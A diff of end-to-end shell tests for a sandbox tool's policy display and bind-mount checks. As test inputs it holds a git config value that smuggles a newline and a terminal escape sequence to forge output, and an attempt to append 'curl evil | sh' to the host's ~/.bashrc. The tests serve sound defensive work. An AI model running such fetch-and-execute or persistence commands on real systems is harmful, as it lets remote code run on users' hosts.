@@ -100,6 +100,20 @@ ltd policy show --hostname e2e-show
 expect_out "policy show: the project's line and its source" "^setenv FROM_PROJECT yes +# $PROJ/\.ltd-native/policy:1\$"
 expect_out "policy show: the command line's" "^hostname e2e-show +# command line\$"
 expect_out "policy show: built-in defaults" "^network allowlist +# built-in\$"
+# A name from the project's git configuration with a newline and an escape
+# sequence in it: shown as '?', it cannot forge a line of the output.
+SHOWP=$(as_user mktemp -d "$U_HOME/e2e-show.XXXXXX")
+as_user mkdir -p "$SHOWP/.git"
+as_user sh -c "printf '[core]\\n\\thooksPath = \"x\\\\n#   read-only inside: /forged\\033[2J\"\\n' > '$SHOWP/.git/config'"
+OUT=$(cd "$SHOWP" && as_user "$LTD" policy show 2>&1)
+expect_out "policy show: a hooks path from git's configuration is listed" "^#   read-only inside: $SHOWP/x\\?#   read-only inside: /forged\\?\\[2J\$"
+expect_no_out "policy show: a newline in a path forges no line" "^#   read-only inside: /forged"
+if printf '%s' "$OUT" | grep -q "$(printf '\033')"; then
+	fail "policy show: no escape byte reaches the terminal" "$OUT"
+else
+	pass "policy show: no escape byte reaches the terminal"
+fi
+as_user rm -rf "$SHOWP"
 as_user sh -c "echo 'setenv FROM_PROJECT changed' > '$PROJ/.ltd-native/policy'"
 ltd run -- true
 expect_rc "an approved-then-edited project policy is refused" 125
@@ -118,6 +132,23 @@ as_user rm -f "$PROJ/keys"
 ltd run --ro-bind "$U_HOME/.ssh" /keys --unsafe-bind-credentials -- true
 expect_rc "--unsafe-bind-credentials lets it through" 0
 expect_out "with a warning" "warning: --unsafe-bind-credentials"
+# What the host runs code from: a shell startup file, git's global config.
+as_user touch "$U_HOME/.bashrc"
+bashrc_before=$(cat "$U_HOME/.bashrc")
+[ -d "$U_HOME/.config/git" ] && made_git_dir=0 || made_git_dir=1
+as_user mkdir -p "$U_HOME/.config/git"
+ltd run --bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" -- sh -c "echo 'curl evil | sh' >> '$U_HOME/.bashrc'"
+expect_rc "a writable bind of ~/.bashrc is refused" 125
+expect_out "naming the risk and the flag" "runs on the host.*--unsafe-bind-startup-files"
+ltd run --bind "$U_HOME/.config" "$U_HOME/.config" -- true
+expect_out "so is a writable ~/.config that holds git's config" "git.*--unsafe-bind-startup-files"
+ltd run --ro-bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" -- cat "$U_HOME/.bashrc"
+expect_rc "read-only, it needs no opt-in" 0
+ltd run --bind "$U_HOME/.bashrc" "$U_HOME/.bashrc" --unsafe-bind-startup-files -- true
+expect_out "--unsafe-bind-startup-files lets it through with a warning" "warning: --unsafe-bind-startup-files"
+[ "$(cat "$U_HOME/.bashrc")" = "$bashrc_before" ] && pass "the host's ~/.bashrc is unchanged" ||
+	fail "the host's ~/.bashrc is unchanged" "$(tail -3 "$U_HOME/.bashrc")"
+[ "$made_git_dir" = 1 ] && as_user rmdir "$U_HOME/.config/git"
 ltd run --network host -- true
 expect_rc "--network host is refused" 125
 expect_out "naming the flag" "--unsafe-host-network"
